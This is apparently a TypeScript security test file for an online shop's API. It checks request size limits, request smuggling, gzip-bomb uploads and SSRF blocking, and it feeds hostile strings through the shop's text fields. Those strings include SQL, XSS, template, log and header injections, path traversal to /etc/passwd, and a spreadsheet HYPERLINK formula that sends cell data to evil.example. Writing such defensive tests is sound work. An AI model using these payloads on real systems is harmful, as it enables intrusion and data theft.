// Goal: no input is too large to be refused quickly, makes the shop go somewhere, or becomes more than data. Method:
// raw requests of every odd size and form against a running shop, and texts that mean something to a database, a
// template, a log, a header or a spreadsheet through every text field of the shop's own OpenAPI document.
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { type AddressInfo, connect } from 'node:net';
import { after, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { limits } from '#limits';
import { type Answer, type Client, createClient } from '../support/client.ts';
import { fillPath, type Operation, objectsOf, readOperations, type Schema, sampleOf } from './api-document.ts';
import { type Cast, newPerson, openCast, succeeded, usd } from './cast.ts';
import { sharedShop } from './shared-shop.ts';

const WITHIN_MS = 2000;
const UPLOAD_BYTES_MAX = 300_000;

// A file at the real bound takes 2 GiB of disk; the same code is held to a smaller one here.
const bounds = limits as { importBytesMax: number };
const { importBytesMax } = limits;
bounds.importBytesMax = UPLOAD_BYTES_MAX;
after(() => {
  bounds.importBytesMax = importBytesMax;
});

let cast: Cast;
let operations: Operation[];
const shop = sharedShop({}, async filled => {
  cast = await openCast(filled);
  operations = await readOperations(filled.url);
});

async function soon<Value>(what: string, work: () => Promise<Value>): Promise<Value> {
  const started = performance.now();
  const value = await work();
  const tookMs = performance.now() - started;
  assert.ok(tookMs < WITHIN_MS, `${what} took ${Math.round(tookMs)} ms`);
  return value;
}

/** The first line of what comes back for these bytes on a bare connection. */
async function raw(text: string): Promise<string> {
  const { hostname, port } = new URL(shop.url);
  const socket = connect(Number(port), hostname);
  await once(socket, 'connect');
  socket.on('error', () => {});
  socket.write(text);
  for await (const chunk of socket) {
    socket.destroy();
    return (chunk as Buffer).toString().split('\r\n')[0]!;
  }
  return 'closed';
}

test('27: page size, query length and filters have bounds', async () => {
  const { key, nobody, ada } = cast;
  const pages: [Client, string][] = [
    [nobody, '/api/products'],
    [nobody, '/api/search'],
    [ada.client, '/api/orders'],
    [key, '/api/admin/orders'],
  ];
  for (const [client, path] of pages) {
    for (const query of [
      'page_size=101',
      'page_size=0',
      'page_size=-1',
      'page_size=1e3',
      'page_size=999999999999',
      'page=0',
      'page=1e9',
    ]) {
      const answer = await soon(query, () => client.get(`${path}?${query}`));
      assert.deepEqual([answer.status, answer.body.code], [400, 'INVALID_INPUT'], `${path}?${query}`);
    }
    assert.equal((await client.get(`${path}?page_size=100`)).status, 200);
    assert.equal((await client.get(`${path}?page=101&page_size=100`)).body.code, 'PAGE_TOO_DEEP', path);
  }
  const long = 'x'.repeat(10_000);
  for (const path of [
    `/api/search?q=${long}`,
    `/api/suggest?q=${long}`,
    `/api/products?category=${long}`,
    `/api/search?brand=${long}`,
  ]) {
    assert.equal((await soon(path.slice(0, 30), () => nobody.get(path))).status, 400, path.slice(0, 30));
  }
  const many = Array.from({ length: 60 }, (_, i) => `brand=b${i}&attr.a${i}=x`).join('&');
  assert.equal((await soon('many filters', () => nobody.get(`/api/search?${many}`))).status, 400);
  assert.ok((await soon('a long path', () => nobody.get(`/api/products/${'x'.repeat(9_000)}`))).status >= 400);
});

test('27: body size, depth and headers have bounds', async () => {
  const { ada } = cast;
  const posts = operations.filter(
    ({ isMutation, path, body }) => isMutation && body !== undefined && !path.startsWith('/api/webhooks/'),
  );
  const large = JSON.stringify({ name: 'x'.repeat(2_000_000) });
  for (const operation of posts) {
    const client = operation.isAdmin ? cast.key : ada.client;
    const headers = { authorization: `Bearer ${client.token}`, 'content-type': 'application/json' };
    const init = { method: operation.method, headers, body: large };
    const answer = await soon(operation.name, () => fetch(`${shop.url}${fillPath(operation, {})}`, init));
    assert.equal(answer.status, 413, operation.name);
  }
  const deep = (open: string, close: string, depth: number) => `{"name":${open.repeat(depth)}1${close.repeat(depth)}}`;
  for (const body of [
    deep('[', ']', 100_000),
    deep('{"a":', '}', 100_000),
    deep('[', ']', 33),
    `{${'"a":1,'.repeat(90_000)}"b":1}`,
  ]) {
    const answer = await soon('a deep body', () => ada.client.patch('/api/me', body));
    assert.deepEqual([answer.status, answer.body.code], [400, 'INVALID_INPUT']);
    assert.ok(JSON.stringify(answer.body).length < 100_000, 'the complaint is bounded as well');
  }
  const host = 'Host: shop\r\n';
  assert.match(await raw(`GET / HTTP/1.1\r\n${host}X-Long: ${'x'.repeat(70_000)}\r\n\r\n`), / 431 /);
  assert.match(await raw(`GET /${'x'.repeat(70_000)} HTTP/1.1\r\n${host}\r\n`), / (414|431) /);
  assert.match(await raw(`GET / HTTP/1.1\r\n${host}${'X-Many: x\r\n'.repeat(5_000)}\r\n`), / (200|431) /);
  assert.match(
    await raw(`POST /api/cart/items HTTP/1.1\r\n${host}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n`),
    / 400 /,
  );
  assert.match(
    await raw(`POST /api/cart/items HTTP/1.1\r\n${host}Content-Length: 5\r\nContent-Length: 6\r\n\r\n`),
    / 400 /,
  );
  assert.match(
    await raw(
      `POST /api/cart/items HTTP/1.1\r\n${host}Content-Type: application/json\r\nContent-Length: 3000000000\r\n\r\n`,
    ),
    / (401|413) /,
  );
});

type UploadBody = string | ReadableStream | FormData | Buffer<ArrayBuffer>;

function upload(client: Client, body: UploadBody, headers: Record<string, string>): Promise<Answer> {
  const all = { authorization: `Bearer ${client.token}`, ...headers };
  const init = { method: 'POST', headers: all, body, duplex: 'half' } as RequestInit;
  return fetch(`${shop.url}/api/admin/imports`, init).then(async answer => {
    const text = await answer.text();
    return { status: answer.status, body: text === '' ? {} : JSON.parse(text), headers: answer.headers };
  });
}

const lineOf = (product: object) => `${JSON.stringify({ category_path: ['Home'], price: usd(100), ...product })}\n`;

async function importDone(client: Client, importId: string): Promise<Answer['body']> {
  for (let tries = 0; tries < 100; tries += 1) {
    const { body } = await client.get(`/api/admin/imports/${importId}`);
    if (body.state !== 'running') return body;
    await new Promise(resolve => setTimeout(resolve, 50));
  }
  assert.fail('the import does not end');
}

test('27: an upload has a bound, told or not, packed or not', async () => {
  const { client } = cast.seller;
  const ndjson = { 'content-type': 'application/x-ndjson' };
  const tooLarge = 'x'.repeat(UPLOAD_BYTES_MAX + 1);
  const stream = new ReadableStream({
    pull(controller) {
      controller.enqueue(new Uint8Array(65_536));
    },
  });
  const form = new FormData();
  form.set('file', new Blob([tooLarge]), 'products.ndjson');
  const uploads: [string, UploadBody, Record<string, string>][] = [
    ['told', tooLarge, ndjson],
    ['endless', stream, ndjson],
    ['as a form', form, {}],
  ];
  for (const [what, body, headers] of uploads) {
    // The shop may hang up on who goes on sending.
    const answer = await soon(what, () =>
      upload(client, body, headers).catch(() => ({ status: 413, body: {}, headers: new Headers() })),
    );
    assert.equal(answer.status, 413, `${what} ${JSON.stringify(answer.body)}`);
  }
  const bomb = gzipSync(Buffer.alloc(200_000_000, ' '), { level: 9 });
  assert.ok(bomb.length < UPLOAD_BYTES_MAX);
  const sent = await upload(client, bomb as UploadBody, { ...ndjson, 'content-encoding': 'gzip' });
  const report = await soon('a bomb', () => importDone(client, sent.body.import_id));
  assert.deepEqual([report.state, report.created], ['failed', 0]);
  const wrong = await upload(client, 'x', { 'content-type': 'application/x-tar' });
  assert.equal(wrong.status, 415);
});

test('27: a search with wildcards, regular expressions, quotes or operators is bounded in time, and means no more than its words', async () => {
  const hostile = [
    '*',
    '**',
    '%',
    '_',
    '%_%',
    '.*',
    '(a+)+$',
    '^(([a-z])+.)+[A-Z]([a-z])+$',
    '"',
    '""',
    '"""',
    "'",
    '\\',
    'AND',
    'OR',
    'NOT',
    'NEAR(a b)',
    'a* b* c*',
    '-a',
    'title:x',
    '{!x}',
    '(',
    ')',
    '((((',
    'a'.repeat(500),
    'ab '.repeat(166),
    '* '.repeat(250),
    '\u0000',
    '😀'.repeat(100),
    'a\u0301'.repeat(200),
    '؜‮',
    '0x41',
    '1e309',
    '${x}',
    '<script>',
    "'; select pg_sleep(10); --",
    'lamp" OR "1"="1',
    '../../etc/passwd',
  ];
  for (const q of hostile) {
    for (const path of ['/api/search', '/api/suggest']) {
      const answer = await soon(q.slice(0, 20), () =>
        cast.nobody.get(`${path}?q=${encodeURIComponent(q)}&attr.${encodeURIComponent(q.slice(0, 40))}=x`),
      );
      assert.ok([200, 400].includes(answer.status), `${path} ${q.slice(0, 20)} ${answer.status}`);
    }
  }
});

test("28: image and feed imports can't reach private addresses, also by redirect or rebinding: an import or a picture's link never makes the server connect", async () => {
  let connections = 0;
  const listener = createServer((_request, response) => void response.end('here'));
  listener.on('connection', () => {
    connections += 1;
  });
  listener.listen(0, '127.0.0.1');
  await once(listener, 'listening');
  const { port } = listener.address() as AddressInfo;
  const hosts = ['127.0.0.1', 'localhost', '[::1]', '2130706433', '0x7f000001', '127.1', 'user@127.0.0.1'];
  const images = hosts.map(host => `http://${host}:${port}/latest/meta-data`);
  const { client } = cast.seller;
  const { product_id } = succeeded(
    await client.post('/api/admin/products', { title: 'Pictured', category_path: ['Home'], price: usd(1), images }),
  );
  const line = lineOf({
    external_id: randomUUID(),
    title: 'Pictured',
    images,
    image: images[0],
    image_link: images[0],
    img_high: images[0],
  });
  const csv = `id,title,price,image_link,additional_image_link,product_type,link\n${randomUUID()},Pictured,1.00 USD,${images[0]},${images[1]},Home,${images[2]}\n`;
  const files: [string, string, string][] = [
    ['doorbuster', line, 'application/x-ndjson'],
    ['icecat', line, 'application/x-ndjson'],
    ['google-merchant', csv, 'text/csv'],
  ];
  for (const [format, text, type] of files) {
    const sent = await client.post(`/api/admin/imports?format=${format}`, text, { 'content-type': type });
    assert.equal(sent.status, 202);
    await importDone(client, sent.body.import_id);
  }
  // A feed or a picture can't be named by its address in the first place, nor a scheme that reads files.
  for (const image of [
    'file:///etc/passwd',
    'gopher://127.0.0.1',
    'javascript:alert(1)',
    'data:text/html,x',
    '//127.0.0.1/x',
    ' http://x',
  ]) {
    assert.equal((await client.patch(`/api/admin/products/${product_id}`, { images: [image] })).status, 400, image);
  }
  assert.equal((await client.post('/api/admin/imports', { url: images[0] })).status, 202, 'a document like any other');
  await shop.shop!.drained();
  for (const path of [`/api/products/${product_id}`, '/', '/api/search?q=pictured', '/api/admin/exports/products'])
    await client.get(path);
  listener.close();
  assert.equal(connections, 0);
});

const INJECTIONS = [
  "'); drop table orders.orders; --",
  "x' or '1'='1",
  '$1; select 1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}',
  'line\r\n{"level":"fatal","msg":"forged"}',
  'x\r\nSet-Cookie: session=evil\r\n\r\n<h1>',
  '=HYPERLINK("http://evil.example","x")',
  '../../../../etc/passwd',
  '\u202emoc.live',
  '\\u0027 \\x27 %27 &#39;',
];

/** Every text field of every body with each text, where its form lets it pass. */
async function injectEverywhere(text: string): Promise<void> {
  for (const operation of operations.filter(
    ({ body, name }) => body !== undefined && !name.includes('/api/account/'),
  )) {
    const schema = operation.body!;
    const fields = objectsOf(schema).flatMap(({ path, fields }) => fields.map(field => [...path, field]));
    for (const path of fields) {
      const body = place(schema, sampleOf(schema, { warehouse_id: cast.warehouse_id }), path, text);
      const client = operation.isAdmin ? cast.key : cast.bob.client;
      const ids = { product_id: cast.product_id, order_id: cast.ada.order_id };
      const init = {
        method: operation.method,
        headers: { authorization: `Bearer ${client.token}`, 'content-type': 'application/json' },
        body: JSON.stringify(body),
      };
      const answer = await fetch(`${shop.url}${fillPath(operation, ids)}`, init);
      const told = await answer.text();
      assert.ok(answer.status < 500, `${operation.name} ${path.join('.')}: ${told}`);
      assert.ok(!answer.headers.get('set-cookie')?.includes('evil'), operation.name);
    }
  }
}

function place(schema: Schema, body: unknown, [first, ...rest]: string[], text: string): unknown {
  const object = (body ?? sampleOf(schema)) as Record<string, unknown>;
  const value = rest.length === 0 ? text : place(schema.properties![first!]!, object[first!], rest, text);
  return { ...object, [first!]: value };
}

test('29: SQL, template and log injection through every text field end up as data', async () => {
  // One after another in one text: whatever breaks out of the one breaks out of all.
  await injectEverywhere(INJECTIONS.slice(0, 7).join(' '));
  await injectEverywhere(INJECTIONS[0]!.slice(0, 40));
  for (const text of INJECTIONS) {
    const query = encodeURIComponent(text);
    for (const path of [
      `/api/search?q=${query}`,
      `/api/products?category=${query}`,
      `/api/search?brand=${query}`,
      `/api/orders?cursor=${query}`,
      `/dev/mail?to=${query}`,
    ]) {
      const answer = await cast.ada.client.get(path);
      assert.ok(answer.status < 500, `${path} ${answer.status}`);
    }
  }
  assert.equal((await cast.key.get(`/api/admin/orders/${cast.ada.order_id}`)).status, 200);
  assert.equal((await cast.key.get('/api/admin/audit')).body.ok, true);
});

test('29: stored scripts in reviews, names and titles are given back as they were written, and escaped on every page', async () => {
  const { client } = cast.seller;
  for (const text of INJECTIONS) {
    const input = {
      title: text,
      description: text,
      brand: text,
      category_path: [text.slice(0, 100)],
      price: usd(1),
      attributes: { note: text },
    };
    const product = succeeded(await client.post('/api/admin/products', input));
    const { title, description, brand, category_path, attributes } = succeeded(
      await cast.nobody.get(`/api/products/${product.product_id}`),
    );
    assert.deepEqual({ title, description, brand, category_path, attributes, price: input.price }, input);
    const reviewer = await newPerson(shop, 'reviewer');
    assert.equal((await reviewer.client.patch('/api/me', { name: text })).status, 200);
    const review = { rating: 5, title: text, body: text };
    succeeded(await reviewer.client.post(`/api/products/${product.product_id}/reviews`, review));
    const { items } = succeeded(await cast.nobody.get(`/api/products/${product.product_id}/reviews`));
    assert.deepEqual([items[0].title, items[0].body, items[0].author], [text, text, text]);
    assert.equal((await cast.nobody.post('/api/account/password-reset', { email: reviewer.email })).status, 202);
  }
  await shop.shop!.drained();
  const query = encodeURIComponent('"><script>alert(1)</script>');
  for (const path of ['/', '/docs', '/dev/mail', `/dev/mail?to=${query}`]) {
    const html = (await createClient(shop.url).get(path)).body as string;
    assert.ok(!/<script>alert|<img src=x|<h1>\s*$/i.test(html), path);
  }
  const mails = (await cast.nobody.get('/dev/mail.json')).body.items as { html: string; subject: string }[];
  for (const { html, subject } of mails) {
    assert.ok(!/<script>alert|<img src=x/i.test(html), html);
    assert.ok(!/[\r\n]/.test(subject), 'a name adds no header to a mail');
  }
});

test('29: a formula in a CSV export is text to a spreadsheet, and comes back as it was by an import', async () => {
  const { client } = cast.otherSeller;
  const formulas = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '=HYPERLINK("http://evil.example?x="&A1,"x")',
    'plain "quoted", text',
  ];
  const made: [string, string][] = [];
  for (const text of formulas) {
    const external_id = `formula-${made.length}`;
    const texts = { title: text, brand: text, description: text, attributes: { color: text } };
    const input = { ...texts, external_id, category_path: ['Home'], price: usd(1) };
    made.push([succeeded(await client.post('/api/admin/products', input)).product_id, text]);
  }
  const csv = (await client.get('/api/admin/exports/products?format=google-merchant')).body as string;
  for (const cell of cellsOf(csv)) assert.ok(!/^[=+\-@\t\r]/.test(cell), `a spreadsheet would run ${cell}`);
  const sent = await client.post('/api/admin/imports?format=google-merchant', csv, { 'content-type': 'text/csv' });
  const report = await importDone(client, sent.body.import_id);
  assert.deepEqual([report.state, report.rejected], ['done', 0]);
  for (const [id, text] of made) {
    // Blanks around a cell are no part of it.
    assert.equal((await client.get(`/api/products/${id}`)).body.title.trim(), text.trim());
  }
});

/** The cells of a CSV text by RFC 4180. */
function cellsOf(csv: string): string[] {
  const cells = csv.match(/"(?:[^"]|"")*"|[^,\n"]+/g) ?? [];
  return cells.map(cell => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell));
}
